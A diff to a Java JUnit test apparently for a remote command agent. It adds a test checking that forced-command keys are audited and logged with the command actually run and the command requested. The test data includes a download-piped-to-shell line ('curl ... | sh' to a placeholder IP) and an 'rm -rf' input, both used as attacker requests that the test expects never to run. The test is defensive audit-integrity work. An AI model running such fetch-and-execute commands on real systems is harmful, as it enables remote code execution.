@@ -5,8 +5,12 @@ import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
 import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
 import dev.rcon.agent.testkit.TestAgent;
 import dev.rcon.agent.testkit.TestClient;
 import dev.rcon.common.auth.AuthenticationException;
@@ -125,6 +129,35 @@ class KeyOptionsEnforcedTest {
             assertEquals("forced: rm -rf /tmp/x\n", new String(client.run(Exec.shell(1, "rm -rf /tmp/x")).stdout(), UTF_8));
             assertEquals("forced: 'ls' 'a b'\n", new String(client.run(new Exec(2, null, List.of("ls", "a b"), null, null,
                     null, null)).stdout(), UTF_8));
+        }
+    }
+
+    /**
+     * Attack: a forced-command key asks for a command that never runs (a wipe, a download piped to
+     * a shell) so that the audit trail and the log say the agent started it as root under that
+     * key, and what really ran appears nowhere. The trail names the forced command as the
+     * command, and what was asked beside it.
+     */
+    @Test
+    void aForcedCommandIsAuditedAndLoggedAsWhatRanWithWhatWasAskedBesideIt() throws Exception {
+        String asked = "curl -s http://203.0.113.9/x | sh";
+        try (TestAgent agent = agentWith("command=\"echo limited\""); TestClient client = agent.connect()) {
+            assertEquals("limited\n", new String(client.run(new Exec(1, asked, null, "/srv", null, null, null)).stdout(),
+                    UTF_8));
+            assertTrue(agent.agent().audit().flush(java.time.Duration.ofSeconds(10)));
+            JsonNode started = null;
+            for (String line : Files.readAllLines(dir.resolve("audit.jsonl"))) {
+                JsonNode node = new ObjectMapper().readTree(line);
+                if (node.path("event").asText().equals("command_started")) {
+                    started = node;
+                }
+            }
+            assertNotNull(started, "no command_started event");
+            assertEquals("echo limited", started.path("command").asText(), started.toString());
+            assertEquals(asked, started.path("original_command").asText(), started.toString());
+            assertTrue(started.path("cwd").isNull() || started.path("cwd").isMissingNode(), started.toString());
+            String log = agent.awaitLog("exit 0");
+            assertTrue(log.contains("forced command 'echo limited' (asked command '" + asked + "'): exit 0"), log);
         }
     }
 }
